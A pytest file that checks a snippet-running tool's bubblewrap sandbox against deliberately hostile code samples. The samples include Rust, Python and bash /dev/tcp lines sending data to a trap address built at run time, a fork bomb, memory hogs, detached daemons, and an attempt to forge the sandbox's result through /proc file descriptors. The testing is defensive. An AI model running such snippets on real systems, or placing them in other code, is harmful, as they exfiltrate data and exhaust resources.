"""The sandbox, tried as a hostile sheet would: snippets that dial out with addresses built at
run time, write files, detach daemons, eat memory, fork and flood their output. Each must
end FAIL with its reason, within its timeouts, leaving no file and no process.

Where root can make network namespaces, the whole check runs inside a "trap" namespace
whose dummy interface holds 192.0.2.1 with a listener on it: the only place the escapes
could reach. Without the sandbox (the control run) they do reach it; inside, never.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path

import pytest

from cardgen.sandbox import Program, Sandbox, detect
from cardgen.sandbox.limits import Limits
from tests.conftest import FIXTURES, ROOT, SEED

ISOLATION = detect()
needs_sandbox = pytest.mark.skipif(
    not ISOLATION.available, reason=f"this machine has no sandbox: {ISOLATION.description}"
)
TRAP_ADDRESS = "192.0.2.1"
MARK = f"cgx{os.getpid()}"
"""In every file name and command line the escapes use, to find what they leave."""
TIMEOUT = 5
RUST_HOMES = {
    name: os.environ.get(name) or str(Path.home() / folder)
    for name, folder in (("RUSTUP_HOME", ".rustup"), ("CARGO_HOME", ".cargo"))
    if os.environ.get(name) or (Path.home() / folder).is_dir()
}
"""Where rustup keeps Rust, kept when a test gives cardgen a HOME of its own."""

DIAL_OUT = """
**Rust dials out:**
```rust
let host = format!("{}.{}.{}.{}", 192, 0, 2, 1);
let mut stream = TcpStream::connect((host.as_str(), 80))?;
stream.write_all(b"escaped from rust")?;
```

**Python dials out:**
```python
import socket
host = "192.0.2." + str(1)
sock = socket.create_connection((host, 80), timeout=3)
sock.sendall(b"escaped from python")
```

**Shell dials out:**
```bash
bash -c 'echo escaped > /dev/tcp/192.0.2.$((0+1))/80'
```
"""
WRITES_HOME = """
**Writes to HOME:**
```python
import os
with open(os.path.expanduser("~/MARK-home.txt"), "w") as f:
    f.write("escaped")
```
"""
WRITES_SHEET = """
**Writes next to the sheet:**
```python
with open("SHEETDIR/MARK-sheet.txt", "w") as f:
    f.write("escaped")
```
"""
ESCAPES = (
    "# Escapes\n\n## Runtime-built addresses\n"
    + DIAL_OUT
    + "\n## Files\n"
    + WRITES_HOME
    + """
**Writes to /tmp:**
```python
with open("/tmp/MARK-tmp.txt", "w") as f:
    f.write("escaped")
```

WRITES_SHEET
## Processes

**Detached daemon:**
```python
import subprocess
subprocess.Popen(["sleep", "313"], start_new_session=True)
print("MARK daemon started")
```

**Quiet daemon:**
```python
import subprocess
subprocess.Popen(["sleep", "317"], start_new_session=True,
    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
```

**Fork loop:**
```python
import os
while True:
    os.fork()
```

**Memory hog in Python:**
```python
hog = bytearray(4 * 1024 ** 3)
```

**Memory hog in Rust:**
```rust
fn main() {
    let hog = vec![1u8; 4 << 30];
    println!("{}", hog.len());
}
```

**A flood of output:**
```python
import sys
chunk = "x" * (1 << 20)
for _ in range(100):
    sys.stdout.write(chunk)
```
"""
).replace("WRITES_SHEET", WRITES_SHEET)
EXPECTED = {
    "Rust dials out": "tried to leave loopback: Network is unreachable",
    "Python dials out": "tried to leave loopback: OSError: [Errno 101] Network is unreachable",
    "Shell dials out": "tried to leave loopback",
    "Writes to HOME": f"it wrote files ($HOME/{MARK}-home.txt)",
    "Writes to /tmp": f"it wrote files (/tmp/{MARK}-tmp.txt)",
    "Writes next to the sheet": "Read-only file system",
    "Detached daemon": "detached",
    "Quiet daemon": "it left 1 detached process(es) running (sleep 317)",
    "Fork loop": "-process limit",
    "Memory hog in Python": "stopped at the 512 MB memory limit (MemoryError)",
    "Memory hog in Rust": "stopped at the 512 MB memory limit (memory allocation of",
    "A flood of output": "stopped at the 1024 KB output limit",
}


def escapes_sheet(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    sheet = folder / "escapes.md"
    sheet.write_text(ESCAPES.replace("MARK", MARK).replace("SHEETDIR", str(folder)))
    return sheet


@dataclass
class Trap:
    namespace: str
    log: Path

    def seen(self) -> list[str]:
        return self.log.read_text().splitlines() if self.log.exists() else []

    def argv(self) -> list[str]:
        return ["ip", "netns", "exec", self.namespace]


TRAP_LISTENER = """
import socket, sys, threading
log = open(sys.argv[1], "a", buffering=1)
tcp = socket.socket(); tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
tcp.bind((sys.argv[2], 80)); tcp.listen(16)
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); udp.bind((sys.argv[2], 80))
def datagrams():
    while True:
        data, peer = udp.recvfrom(65536)
        log.write(f"udp {peer} {data!r}\\n")
threading.Thread(target=datagrams, daemon=True).start()
print("ready", flush=True)
while True:
    conn, peer = tcp.accept()
    conn.settimeout(2)
    try:
        data = conn.recv(1024)
    except OSError:
        data = b""
    log.write(f"tcp {peer} {data!r}\\n")
    conn.close()
"""


@pytest.fixture(scope="module")
def trap(tmp_path_factory):
    """A network namespace with a dummy interface holding 192.0.2.1, a listener on it, and
    no route anywhere else: what the escapes would reach if anything let them out."""
    if os.geteuid() != 0 or shutil.which("ip") is None:
        pytest.skip("a test-made network namespace needs root and iproute2")
    name = f"cg-trap-{os.getpid()}"
    made = subprocess.run(["ip", "netns", "add", name], capture_output=True, text=True)
    if made.returncode != 0:
        pytest.skip(f"cannot make a network namespace here: {made.stderr.strip()}")
    listener = None
    try:
        subprocess.run(["ip", "-n", name, "link", "set", "lo", "up"], check=True)
        for kind in ("dummy", "bridge"):  # a kernel without the dummy module has bridges
            made = subprocess.run(
                ["ip", "-n", name, "link", "add", "trap0", "type", kind], capture_output=True
            )
            if made.returncode == 0:
                break
        else:
            pytest.skip(f"cannot make an interface in a namespace: {made.stderr.strip()}")
        for argv in (
            ["ip", "-n", name, "addr", "add", f"{TRAP_ADDRESS}/24", "dev", "trap0"],
            ["ip", "-n", name, "link", "set", "trap0", "up"],
        ):
            subprocess.run(argv, check=True, capture_output=True)
        log = tmp_path_factory.mktemp("trap") / "trap.log"
        listener = subprocess.Popen(
            [*Trap(name, log).argv(), sys.executable, "-c", TRAP_LISTENER, str(log), TRAP_ADDRESS],
            stdout=subprocess.PIPE,
            text=True,
        )
        assert listener.stdout and listener.stdout.readline().strip() == "ready"
        yield Trap(name, log)
    finally:
        if listener is not None:
            listener.kill()
            listener.wait()
        subprocess.run(["ip", "netns", "del", name], capture_output=True)


def cardgen_check(
    sheet: Path,
    tmp: Path,
    *extra: str,
    env: dict[str, str] | None = None,
    prefix: list[str] | None = None,
) -> tuple[subprocess.CompletedProcess, dict]:
    """`cardgen check SHEET` in a fresh process, with its own HOME and cache."""
    report = tmp / "report.json"
    home = tmp / "home"
    home.mkdir(exist_ok=True)
    full_env = {
        **os.environ,
        **RUST_HOMES,
        "HOME": str(home),
        "CARDGEN_CACHE_DIR": str(tmp / "cache"),
        **(env or {}),
    }
    done = subprocess.run(
        [
            *(prefix or []),
            sys.executable,
            "-m",
            "cardgen",
            "check",
            str(sheet),
            "--timeout",
            str(TIMEOUT),
            "--report",
            str(report),
            *extra,
        ],
        capture_output=True,
        text=True,
        env=full_env,
        cwd=sheet.parent,
        timeout=300,
    )
    data = json.loads(report.read_text()) if report.exists() else {}
    return done, data


def processes_matching(*needles: str) -> list[str]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and int(entry.name) != os.getpid():
            try:
                cmd = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
            except OSError:
                continue
            if any(n in cmd for n in needles):
                found.append(cmd)
    return found


@needs_sandbox
def test_escapes_fail_with_their_reason_and_leave_nothing(tmp_path, request):
    try:  # inside the trap where this machine can make one; the escapes fail either way
        trap = request.getfixturevalue("trap")
    except pytest.skip.Exception:
        trap = None
    sheet = escapes_sheet(tmp_path / "sheets")
    done, report = cardgen_check(sheet, tmp_path, prefix=trap.argv() if trap else None)
    assert done.returncode == 1, done.stderr
    assert report["isolation"] == ISOLATION.description
    by_label = {c["label"]: c for c in report["checks"]}
    shell = next(c for c in report["checks"] if c["label"].startswith("Shell dials out"))
    by_label["Shell dials out"] = shell
    for label, words in EXPECTED.items():
        check = by_label[label]
        assert check["status"] in ("FAIL", "REFUSED"), (label, check)
        assert words in check["reason"], (label, check["reason"])
        assert check["isolation"] == ISOLATION.description
        assert check["seconds"] < TIMEOUT + 20, (label, check["seconds"])  # bounded, not hung
    # nothing left: no file anywhere the snippets wrote, no process
    assert sorted(p.name for p in sheet.parent.iterdir()) == ["escapes.md"]
    assert list((tmp_path / "home").iterdir()) == []
    assert not Path(f"/tmp/{MARK}-tmp.txt").exists()
    assert processes_matching("sleep 313", "sleep 317", str(tmp_path / "cache")) == []
    if trap:
        assert trap.seen() == []  # no connection, no datagram ever arrived at 192.0.2.1


def test_the_trap_catches_the_same_snippets_without_the_sandbox(tmp_path, trap):
    """The control: with the sandbox turned off, the very same snippets do reach the trap's
    listener and do write next to the sheet. So the test above proves what it claims."""
    sheet = tmp_path / "control" / "dial.md"
    sheet.parent.mkdir()
    text = "# Control\n" + DIAL_OUT + WRITES_SHEET
    sheet.write_text(text.replace("MARK", MARK).replace("SHEETDIR", str(sheet.parent)))
    before = len(trap.seen())
    done, report = cardgen_check(
        sheet, tmp_path, env={"CARDGEN_SANDBOX": "none"}, prefix=trap.argv()
    )
    assert report["isolation"] == "none: turned off (CARDGEN_SANDBOX=none)"
    assert done.stderr.count("warning: snippets run without a sandbox") == 1
    arrived = trap.seen()[before:]
    assert any("escaped from rust" in line for line in arrived), arrived
    assert any("escaped from python" in line for line in arrived), arrived
    from_shell = [line for line in arrived if "rust" not in line and "python" not in line]
    assert any("escaped" in line for line in from_shell), arrived
    assert (sheet.parent / f"{MARK}-sheet.txt").read_text() == "escaped"


@needs_sandbox
def test_a_listener_on_a_dummy_interface_never_sees_the_sandbox(trap):
    """The sandbox alone, against the trap: a program that tries every way out."""
    script = (
        "import socket\n"
        "for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n"
        "    s = socket.socket(socket.AF_INET, kind)\n"
        "    s.settimeout(2)\n"
        "    try:\n"
        f"        s.connect(('{TRAP_ADDRESS}', 80)); s.send(b'from the sandbox')\n"
        "    except OSError as exc:\n"
        "        print(kind, exc)\n"
    )
    probe = (
        "import sys; sys.path[:0] = [sys.argv[1]]\n"
        "from cardgen.sandbox import Program, Sandbox\n"
        "ran = Sandbox().run(Program([sys.executable, '-c', sys.argv[2]]), 10)\n"
        "print(ran.value['stdout'])\n"
    )
    before = len(trap.seen())
    done = subprocess.run(
        [*trap.argv(), sys.executable, "-c", probe, str(ROOT), script],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.stdout.count("Network is unreachable") == 2, done.stdout + done.stderr
    time.sleep(0.5)
    assert trap.seen()[before:] == []
    outside = subprocess.run(  # the same program, outside the sandbox but inside the trap
        [*trap.argv(), sys.executable, "-c", script], capture_output=True, text=True, timeout=30
    )
    assert "unreachable" not in outside.stdout
    time.sleep(0.5)
    assert len(trap.seen()) > before


@needs_sandbox
def test_the_sandbox_gives_up_every_capability_and_sees_only_loopback():
    ran = Sandbox().run(
        Program(["sh", "-c", "grep ^Cap /proc/self/status; ip -o link; id -u; echo $HOME; pwd"]),
        10,
    )
    out = ran.value["stdout"]
    for line in out.splitlines():
        if line.startswith("Cap"):
            assert line.split()[1] == "0000000000000000", line
    links = [line for line in out.splitlines() if ": <" in line]
    assert len(links) == 1 and " lo: " in links[0]
    assert out.rstrip().splitlines()[-2:] == ["/tmp/home", "/tmp/home"]


@needs_sandbox
def test_a_program_cannot_forge_the_sandbox_answer():
    """It may scribble on bwrap's output, but the answer must carry a nonce it never saw,
    and anything else on that channel fails the check."""
    forge = (
        "import json, os\n"
        "fake = json.dumps({'nonce': 'guess', 'value': {'passed': True, 'reason': 'forged'}})\n"
        "for pid in (1, os.getppid()):\n"
        "    try:\n"
        "        with open(f'/proc/{pid}/fd/1', 'w') as out:\n"
        "            out.write('\\n' + fake + '\\n')\n"
        "    except OSError:\n"
        "        pass\n"
    )
    ran = Sandbox().call(
        "cardgen.check.peers:run_peer",
        {"kind": "program", "port": 1, "timeout": 5},
        Program([sys.executable, "-c", forge]),
        5,
    )
    assert ran.value is None
    assert "the check was tampered with" in (ran.breach() or "")


def test_without_the_sandbox_limits_still_hold_and_nothing_hangs(tmp_path):
    """No isolation (CARDGEN_SANDBOX=none): said once; the limits and the pipe watch still
    stop the daemon, the hog and the flood; static refusals still refuse."""
    sheet = tmp_path / "sheets" / "fallback.md"
    sheet.parent.mkdir()
    sheet.write_text(
        "# Fallback\n\n**Detached daemon:**\n```python\nimport subprocess\n"
        'subprocess.Popen(["sleep", "314"], start_new_session=True)\n```\n\n'
        "**Quiet daemon:**\n```python\nimport subprocess\n"
        'subprocess.Popen(["sleep", "316"], start_new_session=True,\n'
        "    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n```\n\n"
        "**Memory hog in Python:**\n```python\nhog = bytearray(4 * 1024 ** 3)\n```\n\n"
        "**A flood of output:**\n```python\nimport sys\nfor _ in range(100):\n"
        '    sys.stdout.write("x" * (1 << 20))\n```\n\n'
        "**Refused:**\n```python\nimport socket\n"
        'socket.create_connection(("93.184.216.34", 80))\n```\n'
    )
    done, report = cardgen_check(sheet, tmp_path, env={"CARDGEN_SANDBOX": "none"})
    assert done.stderr.count("warning: snippets run without a sandbox") == 1
    checks = {c["label"]: c for c in report["checks"]}
    assert checks["Detached daemon"]["status"] == "FAIL"
    assert "sleep 314" in checks["Detached daemon"]["reason"]
    assert checks["Quiet daemon"]["status"] == "FAIL"
    assert "detached process(es) running (sleep 316)" in checks["Quiet daemon"]["reason"]
    assert "memory limit" in checks["Memory hog in Python"]["reason"]
    assert "output limit" in checks["A flood of output"]["reason"]
    assert checks["Refused"]["status"] == "REFUSED"
    ran = [c for c in report["checks"] if c["status"] != "REFUSED"]
    assert {c["isolation"] for c in ran} == {"none: turned off (CARDGEN_SANDBOX=none)"}
    assert processes_matching("sleep 314", "sleep 316") == []


@pytest.mark.parametrize("why", ["no bwrap", "no user namespaces"])
def test_where_there_is_no_sandbox_it_says_why_once(tmp_path, why):
    """Two real ways to have no sandbox: bwrap missing from PATH, and a process that may not
    make user namespaces (here: cardgen itself run inside bwrap --disable-userns)."""
    from tests.test_cache import path_without

    sheet = tmp_path / "sheets" / "py.md"
    sheet.parent.mkdir()
    shutil.copy(FIXTURES / "sheets" / "python-sockets.md", sheet)
    if why == "no bwrap":
        env, prefix = {"PATH": path_without(tmp_path, "bwrap")}, None
        expected = "none: bubblewrap (bwrap) is not installed (Debian: apt-get install bubblewrap)"
    else:
        if not ISOLATION.available or not ISOLATION.no_nested_userns:
            pytest.skip("needs a bwrap that can forbid user namespaces (0.8 and later)")
        env = {}
        prefix = [ISOLATION.bwrap or "bwrap", "--unshare-user", "--disable-userns"]
        prefix += ["--bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--"]
        expected = "none: bwrap cannot create its namespaces here (bwrap: "
    done, report = cardgen_check(sheet, tmp_path, env=env, prefix=prefix)
    assert done.returncode == 0, done.stderr
    assert report["isolation"].startswith(expected), report["isolation"]
    assert done.stderr.count("warning: snippets run without a sandbox") == 1
    assert {c["isolation"] for c in report["checks"]} == {report["isolation"]}
    assert {c["status"] for c in report["checks"]} == {"PASS"}


def test_limits_come_from_the_config(tmp_path):
    """`limit_*` keys in cardgen.toml: a CPU burner and a big file stop at them, by name."""
    sheet = tmp_path / "sheets" / "limits.md"
    sheet.parent.mkdir()
    sheet.write_text(
        "# Limits\n\n**Burns CPU:**\n```python\nwhile True:\n    pass\n```\n\n"
        "**Writes a big file:**\n```python\nwith open('big.bin', 'wb') as f:\n"
        "    f.write(b'x' * (3 << 20))\n```\n"
    )
    (sheet.parent / "cardgen.toml").write_text("limit_cpu_seconds = 1\nlimit_file_size_mb = 2\n")
    done, report = cardgen_check(sheet, tmp_path)
    checks = {c["label"]: c for c in report["checks"]}
    assert checks["Burns CPU"]["status"] == "FAIL"
    assert checks["Burns CPU"]["reason"] == "stopped at the 1 s CPU time limit"
    assert checks["Writes a big file"]["reason"] == (
        "stopped at the 2 MB file size limit (OSError: [Errno 27] File too large)"
    )
    (sheet.parent / "cardgen.toml").write_text("limit_memory_mb = 0\n")
    done, _ = cardgen_check(sheet, tmp_path)
    assert done.returncode == 2
    assert "cardgen.toml:1: limit_memory_mb: must be from 16 to 1048576, not 0" in done.stderr


def test_require_isolation_refuses_to_run_anything(tmp_path):
    sheet = tmp_path / "sheets" / "seed.md"
    sheet.parent.mkdir()
    shutil.copy(SEED, sheet)
    done, report = cardgen_check(
        sheet, tmp_path, "--require-isolation", env={"CARDGEN_SANDBOX": "none"}
    )
    assert done.returncode == 1
    assert done.stderr.count("error: isolation is required") == 1
    assert done.stderr.count("turned off (CARDGEN_SANDBOX=none)") == 1
    statuses = {c["status"] for c in report["checks"]}
    assert statuses <= {"REFUSED", "SKIP"} and "REFUSED" in statuses
    refused = [c for c in report["checks"] if c["status"] == "REFUSED"]
    assert {c["reason"] for c in refused} == {
        "not run: isolation is required (--require-isolation) and not available"
    }
    assert {c["kind"] for c in refused} >= {"tcp_server", "tcp_client", "shell", "claim"}
    assert not (tmp_path / "cache" / "bin").exists()  # nothing was even compiled
    (tmp_path / "sheets" / "cardgen.toml").write_text("require_isolation = true\n")
    done, report = cardgen_check(sheet, tmp_path, env={"CARDGEN_SANDBOX": "none"})
    assert done.returncode == 1 and "PASS" not in {c["status"] for c in report["checks"]}


@needs_sandbox
def test_seed_checks_and_claims_pass_inside_the_sandbox(tmp_path):
    sheet = tmp_path / "sheets" / "ch02-sockets.md"
    sheet.parent.mkdir()
    shutil.copy(SEED, sheet)
    done, report = cardgen_check(sheet, tmp_path, "--no-cache")
    assert done.returncode == 0, done.stderr
    ran = [c for c in report["checks"] if c["status"] != "SKIP"]
    assert {c["status"] for c in ran} == {"PASS"}
    assert {c["isolation"] for c in ran} == {ISOLATION.description}
    kinds = {c["kind"] for c in ran}
    assert {"tcp_server", "tcp_client", "udp_echo", "socket_options", "shell"} <= kinds
    # the claims' /proc/net/tcp observations, made in the sandbox's own namespace
    states = {c["label"] for c in ran if c["kind"] == "state_claim"}
    assert {"LISTEN", "SYN_SENT", "FIN_WAIT_2", "CLOSE_WAIT", "LAST_ACK", "TIME_WAIT"} <= states


def _stop_while_running(tmp_path: Path, how: signal.Signals) -> tuple[float, list[str]]:
    sheet = tmp_path / "sheets" / "slow.md"
    sheet.parent.mkdir(exist_ok=True)
    sheet.write_text(
        "# Slow\n\n**Sleeps:**\n```python\nimport time\ntime.sleep(300)\n```\n\n"
        "**Also sleeps:**\n```bash\nsleep 315\n```\n"
    )
    cache = tmp_path / f"cache-{how.name}"
    env = {**os.environ, "CARDGEN_CACHE_DIR": str(cache)}
    proc = subprocess.Popen(
        [sys.executable, "-m", "cardgen", "check", str(sheet), "--timeout", "120"],
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        start_new_session=True,
    )
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not (
        processes_matching("sleep 315") and processes_matching(str(cache / "python"))
    ):
        time.sleep(0.05)
    assert processes_matching("sleep 315"), "the snippets never started"
    sent = time.monotonic()
    if how == signal.SIGINT:
        os.killpg(proc.pid, signal.SIGINT)  # what a terminal's Ctrl-C does
    else:
        proc.send_signal(how)
    try:
        proc.wait(timeout=30)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
    stopped = time.monotonic() - sent
    time.sleep(0.3)
    return stopped, processes_matching("sleep 315", str(cache))


@pytest.mark.parametrize("how", [signal.SIGTERM, signal.SIGINT])
def test_an_interrupted_check_stops_at_once_and_leaves_no_process(tmp_path, how):
    stopped, left = _stop_while_running(tmp_path, how)
    assert left == []
    assert stopped < 5, f"took {stopped:.1f} s to stop (the snippets' timeout is 120 s)"


def test_unprivileged_user_gets_the_same_sandbox(tmp_path):
    """As nobody (setpriv), with the system's Python: user namespaces, loopback only, and the
    process limit that RLIMIT_NPROC enforces for users who are not root. Run the way a user's
    script from /tmp runs (/tmp on sys.path), with a PATH folder nobody may not look into."""
    python = Path("/usr/bin/python3")
    if os.geteuid() != 0 or not python.exists() or shutil.which("setpriv") is None:
        pytest.skip("needs root (to become nobody), setpriv and /usr/bin/python3")
    nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--"]
    readable = subprocess.run([*nobody, "test", "-r", str(ROOT / "cardgen" / "__init__.py")])
    if readable.returncode != 0:
        pytest.skip(f"nobody cannot read {ROOT}")
    probe = (
        "import sys; sys.path[:0] = [sys.argv[1], '/tmp']\n"
        "from cardgen.sandbox import Program, Sandbox, detect\n"
        "if not detect().available: print('NONE', detect().description); raise SystemExit\n"
        "box = Sandbox()\n"
        "fork = [sys.executable, '-c', 'import os\\nwhile True: os.fork()']\n"
        "ran = box.call('cardgen.sandbox.host:run_program', {'timeout': 5}, Program(fork), 5)\n"
        "print('FORK', ran.breach())\n"
        "dial = \"import socket; socket.create_connection(('192.0.2.1', 80))\"\n"
        "net = [sys.executable, '-c', dial]\n"
        "print('NET', box.run(Program(net), 5).breach())\n"
        "print('UID', box.run(Program(['id', '-u']), 5).value['stdout'].strip())\n"
        "print('PWD', box.run(Program(['pwd']), 5).value['stdout'].strip())\n"
        "status = box.run(Program(['grep', '^Cap', '/proc/self/status']), 5).value['stdout']\n"
        "print('CAPS', ' '.join(status.split()))\n"
    )
    done = subprocess.run(
        [*nobody, str(python), "-c", probe, str(ROOT)],
        capture_output=True,
        text=True,
        timeout=120,
        cwd="/",
        env={"PATH": "/root/.cargo/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME": "/nonexistent"},
    )
    lines = dict(line.split(" ", 1) for line in done.stdout.splitlines() if " " in line)
    if "NONE" in lines:
        pytest.skip(f"no user namespaces for nobody here: {lines['NONE']}")
    assert lines.get("UID") == "65534", done.stdout + done.stderr
    assert lines.get("PWD") == "/tmp/home", lines
    limit = Limits().processes
    assert f"stopped at the {limit}-process limit" in lines["FORK"], lines
    assert "tried to leave loopback" in lines["NET"], lines
    caps = dict(zip(lines["CAPS"].split()[::2], lines["CAPS"].split()[1::2], strict=True))
    held = {name: value for name, value in caps.items() if int(value, 16)}
    # nobody cannot empty the bounding set (no CAP_SETPCAP), and needs not: with no
    # permitted, inheritable or ambient capability and no_new_privs, exec gains none
    assert set(held) <= {"CapBnd:"}, caps
